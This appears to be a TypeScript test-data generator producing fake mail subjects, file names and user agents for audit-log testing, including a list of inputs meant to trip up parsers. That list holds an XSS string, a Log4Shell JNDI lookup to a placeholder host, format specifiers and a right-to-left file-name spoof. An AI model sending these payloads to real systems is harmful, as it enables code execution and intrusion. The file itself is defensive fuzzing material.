import type { Rng } from '../rng.ts';

const SUBJECTS = [
  'Quarterly figures',
  'RE: Minutes of the steering group',
  'Your parcel could not be delivered',
  'Urgent: payment details have changed',
  'Invoice 20416 overdue',
  'New sign-in method added to your account',
  'FW: travel plan',
  'Lunch?',
];

/** Texts that break careless parsers, loggers and rules. All are valid JSON strings. */
const AWKWARD_TEXTS = [
  'Zoë’s “Größenänderung” – 100 % sûr ✓',
  '会議の議事録 と 予算案',
  'تقرير الميزانية السنوي',
  '🎉👩‍💻 launch party 🇪🇺',
  'He said "ship it" and left \\\\server\\share\\new',
  'first line\r\nsecond line\n\tthird, indented',
  'RE: Login failed for user sa',
  'No space left on device',
  '?????????????????????',
  '<script>alert(1)</script> & "quoted" \'single\'',
  '$(office_365.Operation) %s %n ${jndi:ldap://x.example/a}',
  'a\u0301 combining, zero\u200bwidth, right-to-left \u202eexe.pdf',
  `Long subject: ${'all work and no play '.repeat(60)}`,
];

const FILES: readonly [name: string, extension: string][] = [
  ['Budget 2031', 'xlsx'],
  ['Roadmap', 'pptx'],
  ['Contract draft', 'docx'],
  ['Payroll', 'csv'],
  ['Passwords', 'txt'],
  ['Site plan', 'pdf'],
  ['Backup', 'zip'],
  ['Customer list', 'xlsx'],
  ['Whiteboard', 'png'],
  ['Notes', 'one'],
];

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
];

/** Programs that are no browsers: the ones detections look for among them. */
const TOOLS = [
  'BAV2ROPC',
  'axios/1.7.2',
  'python-requests/2.32.3',
  'Microsoft SkyDriveSync 24.108.0528.0005 ship; Windows NT 10.0 (19045)',
  'NONISV|SharePointPnP|PnPPS/2.4',
  'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)',
];

/** A mail subject or title; every eighth is an awkward one. */
export function subject(rng: Rng): string {
  return rng.chance(0.125) ? rng.pick(AWKWARD_TEXTS) : rng.pick(SUBJECTS);
}

/** A text that careless software stumbles over. */
export function awkwardText(rng: Rng): string {
  return rng.pick(AWKWARD_TEXTS);
}

/** A file's name and extension. */
export function fileName(rng: Rng): { readonly name: string; readonly extension: string } {
  const [name, extension] = rng.pick(FILES);
  return { name: `${name}.${extension}`, extension };
}

/** A `UserAgent`: a browser four times out of five. */
export function userAgent(rng: Rng): string {
  return rng.chance(0.8) ? rng.pick(BROWSERS) : rng.pick(TOOLS);
}
